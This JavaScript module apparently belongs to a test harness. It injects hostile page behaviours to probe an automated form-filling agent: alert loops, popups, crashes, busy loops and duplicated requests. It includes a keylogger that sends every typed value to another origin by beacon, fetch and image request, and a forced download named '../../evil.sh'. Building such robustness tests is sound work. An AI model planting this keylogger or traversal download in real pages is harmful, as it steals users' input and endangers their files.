// The faults of a page, one function each, in the order in which they are applied.
// Each gets the fault's value, and the wizard when one of its calls is held up; false means: do not go on.
import { settings } from "./component.js";
import { address, form } from "./server.js";

const never = () => new Promise(() => {});

function append(tag, properties, parent = document.body) {
  const element = Object.assign(document.createElement(tag), properties);
  parent.append(element);
  return element;
}

async function captcha(_, wizard) {
  const cover = append("div", { role: "dialog", ariaLabel: "Security check" });
  cover.style.cssText = "position: fixed; inset: 0; z-index: 9; display: grid; place-content: center; background: #fffe";
  const frame = append("iframe", { title: "CAPTCHA", src: "/recaptcha/api2/anchor" }, cover);
  const solved = new Promise((resolve) => {
    addEventListener("message", (event) => {
      if (event.source !== frame.contentWindow) return;
      cover.remove();
      resolve();
    });
  });
  await new Promise((resolve) => frame.addEventListener("load", resolve, { once: true }));
  if (wizard) await solved;
}

// On opening, the server itself redirects there.
function login() {
  if (document.cookie.includes("signed_in=")) return undefined;
  location.replace(`/login?back=${encodeURIComponent(location.pathname + location.search)}`);
  return never();
}

function expire() {
  const main = document.querySelector("main");
  main.replaceChildren();
  append("h2", { textContent: "Session expired" }, main);
  append("p", { role: "alert", textContent: "Your session has expired. Please start again." }, main);
  append("button", { type: "button", textContent: "Start Again", onclick: () => location.reload() }, main);
  return false;
}

function alerts(times) {
  for (let n = 0; n < Number(times); n += 1) alert("Please wait.");
}

// Any click opens it, once.
function hiddenFile() {
  const input = append("input", { type: "file", hidden: true, name: "more_files" });
  document.addEventListener("click", () => input.click(), { once: true });
}

function download() {
  append("a", { href: "data:application/x-sh,echo", download: "../../evil.sh", hidden: true }).click();
}

// Deeper than a renderer's stack: layout goes down one frame, at least, an element.
function crash() {
  let inside = document.createElement("div");
  const outside = inside;
  for (let n = 0; n < 6_000; n += 1) inside = append("div", { style: "display: grid" }, inside);
  document.body.append(outside);
  return outside.offsetHeight;
}

function exfiltrate() {
  const to = `${settings.otherOrigin}/collect`;
  document.addEventListener(
    "input",
    (event) => {
      const text = String(event.composedPath()[0].value);
      navigator.sendBeacon(to, text);
      fetch(to, { method: "POST", mode: "no-cors", body: text }).catch(() => {});
      new Image().src = `${to}?typed=${encodeURIComponent(text)}`;
    },
    true,
  );
}

// Every copy leaves at once; the page reads the answer to the last.
function duplicateRequest(times) {
  const { fetch } = window;
  window.fetch = (url, init) => {
    window.fetch = fetch;
    for (let n = 1; n < Number(times); n += 1) fetch(url, init).catch(() => {});
    navigator.sendBeacon(url, init.body);
    return fetch(url, init);
  };
}

async function nativePost(_, wizard) {
  const fields = form("submitInquiry", await wizard.inquiry());
  const sender = append("form", { method: "post", action: `${address()}&form=1`, hidden: true });
  for (const [name, value] of fields) append("textarea", { name, value }, sender);
  sender.submit();
  return never();
}

export const PAGE_FAULTS = {
  "console-spam": () => {
    for (let n = 0; n < 10_000; n += 1) console.log(`Line ${n}: ${"-".repeat(80)}`);
  },
  tall: () => {
    document.body.style.minHeight = "200000px";
  },
  exfiltrate,
  beforeunload: () => addEventListener("beforeunload", (event) => event.preventDefault()),
  "hidden-file-input": hiddenFile,
  download,
  popups: () => {
    for (let n = 0; n < 5; n += 1) window.open("/help/contact-us.htm");
  },
  "alert-loop": alerts,
  "confirm-dialog": () => confirm("Do you really want to go on?"),
  captcha,
  login,
  "session-expired": expire,
  crash,
  "busy-loop": () => {
    for (;;);
  },
  "duplicate-request": duplicateRequest,
  "native-post": nativePost,
};
